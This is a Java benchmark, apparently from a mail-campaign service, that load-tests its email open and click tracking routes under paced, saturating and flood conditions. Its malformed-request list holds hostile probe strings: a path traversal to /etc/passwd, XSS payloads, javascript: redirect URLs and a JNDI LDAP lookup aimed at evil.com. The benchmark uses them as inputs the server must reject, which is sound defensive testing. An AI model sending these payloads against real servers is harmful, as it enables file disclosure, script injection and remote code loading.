package io.mailblast.validation.bench;

import com.fasterxml.jackson.databind.JsonNode;
import io.mailblast.validation.http.HttpRequests;
import io.mailblast.validation.installation.ApiClient;
import io.mailblast.validation.installation.Installation;
import io.mailblast.validation.installation.Launcher;
import io.mailblast.validation.observe.Machine;
import io.mailblast.validation.observe.Prometheus;
import io.mailblast.validation.traffic.Audience;
import io.mailblast.validation.traffic.TrackedLinks;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.OptionalDouble;
import java.util.Set;
import java.util.TreeMap;
import java.util.concurrent.CompletableFuture;
import java.util.stream.Stream;

/// How many opens one API process takes, durable and not, and how long a mix of opens and clicks at a fixed
/// rate waits; beside a route of the same server that does nothing, under the same generator, in turns. Then
/// how long real ones wait while malformed ones come at ten times their rate.
final class TrackingBenchmark implements Benchmark {

    private static final int MAILS = 500;
    private static final int CONNECTIONS = 128;

    /// With fewer, the cores idle while all of them wait for a flush; with more, nothing more is answered.
    private static final int SATURATING_CONNECTIONS = 512;

    private static final int PACED_PER_SECOND = 5_000;
    /// A percentile needs more samples than come in the time that is enough for events.
    private static final int LOGINS_TIMES = 6;

    /// Some twenty hashes, after which their code is compiled.
    private static final Duration LOGINS_WARMUP = Duration.ofSeconds(20);

    private static final int LOGINS_PER_SECOND = 1;
    private static final int CALM_PER_SECOND = 2_000;
    private static final int FLOOD_PER_SECOND = 10 * CALM_PER_SECOND;
    private static final int FLOOD_CONNECTIONS = 256;
    private static final Duration WARMUP = Duration.ofSeconds(3);
    private static final Duration FIRST_WARMUP = Duration.ofSeconds(30);
    private static final Duration INGEST = Duration.ofMinutes(3);

    /// Opens as fast as they are answered, and the route that does nothing in turns with them.
    private record Rates(Spread opens, Spread nothing) {}

    private record Loads(
            LoadPlan opens,
            LoadPlan nothing,
            LoadPlan forged,
            LoadPlan mix,
            LoadPlan nothingPaced,
            LoadPlan logins,
            LoadPlan besideLogins,
            LoadPlan calm,
            LoadPlan flood) {}

    /// The runs in which the generator was latest, by what ran.
    private final Map<String, LoadResult> latest = new TreeMap<>();

    private final List<Double> nothingP99 = new ArrayList<>();
    private final List<Double> nothingMax = new ArrayList<>();
    private final List<Double> p99 = new ArrayList<>();
    private final List<Double> max = new ArrayList<>();
    private final List<Double> calmP99 = new ArrayList<>();
    private final List<Double> floodedP99 = new ArrayList<>();
    private final List<Double> floodedMax = new ArrayList<>();
    private final List<Double> floodPerSecond = new ArrayList<>();

    @Override
    public BenchResult run(Launcher launcher, Settings settings, Screen screen) {
        BenchResult result = new BenchResult("tracking", Machine.read());
        screen.step("Starting a simulator that reacts to nothing, the API with its database, and a worker ...");
        try (Installation installation =
                        Installation.start(launcher, List.of("--quiet", "--rate", "1000000"), Map.of());
                ApiClient api = installation.signIn();
                ApiClient simulator = new ApiClient(installation.simulatorHttp())) {
            screen.step("Sending " + MAILS + " mails, to open and click what really stands in them ...");
            Audience audience = new Audience(installation, api);
            JsonNode _ = audience.sender();
            audience.awaitSent(audience.begin(audience.list("Readers", MAILS)), _ -> {});
            Loads loads = loads(installation, TrackedLinks.of(simulator, MAILS), settings.duration());
            LoadGenerator generator = new LoadGenerator(HttpRequests.address(installation.http()));
            screen.step("Warming up ...");
            warmUp(generator, loads);
            for (int i = 1; i <= settings.repeats(); i++) {
                paced(generator, loads, i + " of " + settings.repeats(), result, screen);
            }
            for (int i = 1; i <= settings.repeats(); i++) {
                flooded(generator, loads, i + " of " + settings.repeats(), result, screen);
            }
            Rates fsync = opens(generator, loads, api, "fsync", settings, result, screen);
            screen.step("As fast as it can: forged opens ...");
            forged(generator, loads, result);
            LoadResult logins = signIns(generator, loads, result, screen);
            screen.step("Starting the server again, without fsync for events ...");
            installation.restart(Map.of("MAILBLAST_EVENT_LOG_DURABILITY", "os"));
            warmUp(generator, loads);
            Rates os = opens(generator, loads, api, "os", settings, result, screen);
            result.version("MailBlast", api.get("/health/ready").path("version").asText());
            summarise(result, settings, fsync, os, logins);
        }
        return result;
    }

    private static Loads loads(Installation installation, TrackedLinks links, Duration duration) {
        String base = installation.http();
        List<byte[]> live = List.of(HttpRequests.get(base, "/health/live", "bench"));
        String login = ApiClient.JSON
                .createObjectNode()
                .put("email", installation.email())
                .put("password", installation.password())
                .toString();
        return new Loads(
                new LoadPlan(links.opens(base), Set.of(200), SATURATING_CONNECTIONS, 0, WARMUP, duration),
                new LoadPlan(live, Set.of(200), SATURATING_CONNECTIONS, 0, WARMUP, duration),
                new LoadPlan(links.forgedOpens(base), Set.of(200), SATURATING_CONNECTIONS, 0, WARMUP, duration),
                new LoadPlan(links.mix(base), Set.of(200, 302), CONNECTIONS, PACED_PER_SECOND, WARMUP, duration),
                new LoadPlan(live, Set.of(200), CONNECTIONS, PACED_PER_SECOND, WARMUP, duration),
                new LoadPlan(
                        List.of(HttpRequests.postJson(base, "/auth/login", "", login)),
                        Set.of(200),
                        CONNECTIONS,
                        LOGINS_PER_SECOND,
                        LOGINS_WARMUP,
                        duration.multipliedBy(LOGINS_TIMES)),
                new LoadPlan(
                        links.mix(base),
                        Set.of(200, 302),
                        CONNECTIONS,
                        PACED_PER_SECOND,
                        LOGINS_WARMUP,
                        duration.multipliedBy(LOGINS_TIMES)),
                new LoadPlan(links.mix(base), Set.of(200, 302), CONNECTIONS, CALM_PER_SECOND, WARMUP, duration),
                new LoadPlan(
                        malformed(base),
                        Set.of(400, 404, 429),
                        FLOOD_CONNECTIONS,
                        FLOOD_PER_SECOND,
                        Duration.ZERO,
                        duration.plus(WARMUP)));
    }

    /// What scanners send: the strategy's malicious identifiers and some more, and links that lead nowhere.
    private static List<byte[]> malformed(String base) {
        return Stream.of(
                        "/track/open/..%2F..%2F..%2Fetc%2Fpasswd",
                        "/track/open/%3Cscript%3Ealert(1)%3C%2Fscript%3E",
                        "/track/open/$%7Bjndi:ldap:%2F%2Fevil.com%7D",
                        "/track/open/a.b",
                        "/track/open/" + "a".repeat(65),
                        "/track/click/abc?url=javascript:alert(1)",
                        "/track/click/abc?url=amF2YXNjcmlwdDphbGVydCgxKQ",
                        "/wp-login.php")
                .map(path -> HttpRequests.get(base, path, "scanner"))
                .toList();
    }

    private static void warmUp(LoadGenerator generator, Loads loads) {
        for (LoadPlan plan : List.of(loads.nothing(), loads.mix())) {
            LoadResult _ = generator.run(new LoadPlan(
                    plan.requests(), plan.expected(), CONNECTIONS, 0, Duration.ZERO, FIRST_WARMUP.dividedBy(2)));
        }
    }

    private void paced(LoadGenerator generator, Loads loads, String turn, BenchResult result, Screen screen) {
        screen.step(Settings.grouped(PACED_PER_SECOND) + " a second, " + turn + ": the route that does nothing ...");
        LoadResult nothing =
                checked("the route that does nothing, paced,", generator.run(loads.nothingPaced()), result);
        nothingP99.add(nothing.latencyMs(99));
        nothingMax.add(nothing.maxLatencyMs());
        screen.step(Settings.grouped(PACED_PER_SECOND) + " a second, " + turn + ": opens and clicks ...");
        LoadResult mix = checked("opens and clicks, paced,", generator.run(loads.mix()), result);
        p99.add(mix.latencyMs(99));
        max.add(mix.maxLatencyMs());
    }

    /// The real ones alone, then with a flood beside them, which may fall behind its rate: then it comes as
    /// fast as it is answered.
    private void flooded(LoadGenerator generator, Loads loads, String turn, BenchResult result, Screen screen) {
        screen.step(Settings.grouped(CALM_PER_SECOND) + " a second, " + turn + ": opens and clicks alone ...");
        calmP99.add(checked("opens and clicks without a flood", generator.run(loads.calm()), result)
                .latencyMs(99));
        screen.step(Settings.grouped(CALM_PER_SECOND) + " a second, " + turn + ": with "
                + Settings.grouped(FLOOD_PER_SECOND) + " malformed ones beside them ...");
        CompletableFuture<LoadResult> flood = CompletableFuture.supplyAsync(() -> generator.run(loads.flood()));
        LoadResult real = checked("opens and clicks in a flood", generator.run(loads.calm()), result);
        floodedP99.add(real.latencyMs(99));
        floodedMax.add(real.maxLatencyMs());
        floodPerSecond.add(flood.join().perSecond());
    }

    /// While opens and clicks come and become rows.
    private LoadResult signIns(LoadGenerator generator, Loads loads, BenchResult result, Screen screen) {
        screen.step("Signing in, " + LOGINS_PER_SECOND + " times a second, beside " + Settings.grouped(PACED_PER_SECOND)
                + " opens and clicks a second ...");
        CompletableFuture<LoadResult> mix = CompletableFuture.supplyAsync(() -> generator.run(loads.besideLogins()));
        LoadResult logins = checked("signing in", generator.run(loads.logins()), result);
        LoadResult _ = checked("opens and clicks beside it", mix.join(), result);
        return logins;
    }

    private Rates opens(
            LoadGenerator generator,
            Loads loads,
            ApiClient api,
            String durability,
            Settings settings,
            BenchResult result,
            Screen screen) {
        List<Double> perSecond = new ArrayList<>();
        List<Double> nothingPerSecond = new ArrayList<>();
        long behind = 0;
        for (int i = 1; i <= settings.repeats(); i++) {
            String turn = i + " of " + settings.repeats();
            awaitIngest(api, screen);
            screen.step("As fast as it can, " + turn + ": the route that does nothing ...");
            nothingPerSecond.add(
                    checked("the route that does nothing as fast as it can", generator.run(loads.nothing()), result)
                            .perSecond());
            screen.step("As fast as it can, " + turn + ": opens, durability " + durability + " ...");
            perSecond.add(checked("opens as fast as it can", generator.run(loads.opens()), result)
                    .perSecond());
            behind = Math.max(behind, (long) lag(api).orElse(0));
        }
        result.note(
                "After opens as fast as it can (" + durability + ") the log was up to " + Settings.grouped(behind >> 10)
                        + " KB ahead of the rows: opens are answered before they are counted.");
        awaitIngest(api, screen);
        return new Rates(Spread.median(perSecond), Spread.median(nothingPerSecond));
    }

    /// What a forged identifier costs beyond an empty route, of all cores together.
    private void forged(LoadGenerator generator, Loads loads, BenchResult result) {
        double forged = checked("forged opens as fast as it can", generator.run(loads.forged()), result)
                .perSecond();
        double nothing = checked("the route that does nothing after them", generator.run(loads.nothing()), result)
                .perSecond();
        double beyondUs = 1e6 * result.machine().cores() * (1 / forged - 1 / nothing);
        result.add(Figure.of("forged_opens_per_second", "opens/s", Spread.once(forged))
                .under("health_live_per_second", Spread.once(nothing))
                .noting(String.format(
                        Locale.ROOT,
                        "One character of the identifier changed: answered as a real one, recorded nowhere. One costs %.1f us"
                                + " of a core more than the route that does nothing.",
                        beyondUs)));
    }

    private LoadResult checked(String what, LoadResult load, BenchResult result) {
        LoadResult _ = latest.merge(what, load, LoadResult::later);
        if (load.errors() > 0) {
            result.failed("Of " + what + ", " + load.errors() + " of " + (load.answered() + load.errors())
                    + " requests failed, such as: " + load.problem() + ".");
        }
        return load;
    }

    /// What one measurement leaves to be ingested must not slow the next.
    static void awaitIngest(ApiClient api, Screen screen) {
        long deadline = System.nanoTime() + INGEST.toNanos();
        OptionalDouble behind = lag(api);
        while (behind.orElse(0) > 0 && System.nanoTime() < deadline) {
            screen.progress("ingest is " + Settings.grouped((long) behind.getAsDouble() >> 10) + " KB behind");
            Audience.pause(500);
            behind = lag(api);
        }
    }

    private static OptionalDouble lag(ApiClient api) {
        return Prometheus.parse(api.text("/metrics")).sum("mailblast_events_lag_bytes", "");
    }

    private void summarise(BenchResult result, Settings settings, Rates fsync, Rates os, LoadResult logins) {
        result.configured(
                "connections",
                CONNECTIONS + " at a pace, " + SATURATING_CONNECTIONS + " for opens as fast as they are answered");
        result.configured("seconds", settings.duration().toSeconds() + " each");
        result.configured("repeats", Integer.toString(settings.repeats()));
        result.configured("identifiers", "of " + MAILS + " mails that were really sent, 5 links each, 5 user agents");
        result.configured(
                "mix", "60% opens, 40% clicks at " + Settings.grouped(PACED_PER_SECOND) + "/s, durability fsync");
        result.configured("database", "embedded PostgreSQL, durable");
        latest.forEach((what, load) -> result.note("While " + what + " ran: "
                + load.selfDoubt(result.machine().cores())
                        .orElse("the generator used " + load.coresUsed() + " cores, and sees no sign that it was what"
                                + " was slow.")));
        result.add(
                Figure.of("opens_per_second_fsync", "opens/s", fsync.opens())
                        .under("health_live_per_second", fsync.nothing())
                        .noting(
                                "Answered after the open was on disk. Ingest into the database goes on beside, on the same cores."));
        result.add(Figure.of("opens_per_second_os", "opens/s", os.opens())
                .under("health_live_per_second", os.nothing())
                .noting("Answered after the open was handed to the system (event_log.durability: os)."));
        result.add(Figure.of("latency_p99_ms", "ms", Spread.median(p99))
                .atMost(10)
                .under("health_live_p99_ms", Spread.median(nothingP99))
                .noting("From each request's intended start, at " + Settings.grouped(PACED_PER_SECOND) + "/s."));
        result.add(Figure.of("latency_max_ms", "ms", Spread.highest(max))
                .atMost(100)
                .under("health_live_max_ms", Spread.highest(nothingMax))
                .noting("The worst single request of all repeats."));
        result.add(Figure.of("flood_p99_ms", "ms", Spread.median(floodedP99))
                .atMost(50)
                .under("without_flood_p99_ms", Spread.median(calmP99))
                .noting("Opens and clicks at " + Settings.grouped(CALM_PER_SECOND)
                        + "/s, from the intended start, while malformed ones from the same address were meant to come at "
                        + Settings.grouped(FLOOD_PER_SECOND) + "/s over " + FLOOD_CONNECTIONS + " connections."));
        result.add(Figure.of("flood_max_ms", "ms", Spread.highest(floodedMax)));
        result.add(
                Figure.of("flood_malformed_per_second", "requests/s", Spread.median(floodPerSecond))
                        .noting(
                                "How many malformed ones were answered (400, 404, 429) beside them: the server lets who floods wait."));
        result.add(Figure.of("login_p95_ms", "ms", Spread.once(logins.latencyMs(95)))
                .atMost(100)
                .noting(LOGINS_PER_SECOND + " a second, one account, right password, beside "
                        + Settings.grouped(PACED_PER_SECOND) + " opens and clicks a second; "
                        + logins.latencyNs().getTotalCount() + " samples. Argon2id is meant to be slow: no ceiling."));
        result.notMeasured(
                "A network, TLS, a proxy in front, and a generator on a machine of its own: all share this one's"
                        + " cores.");
        result.notMeasured("That every open that was answered is counted: prove, not bench, shows that.");
        result.notMeasured("Opens spread over millions of identifiers, and forged ones.");
    }
}
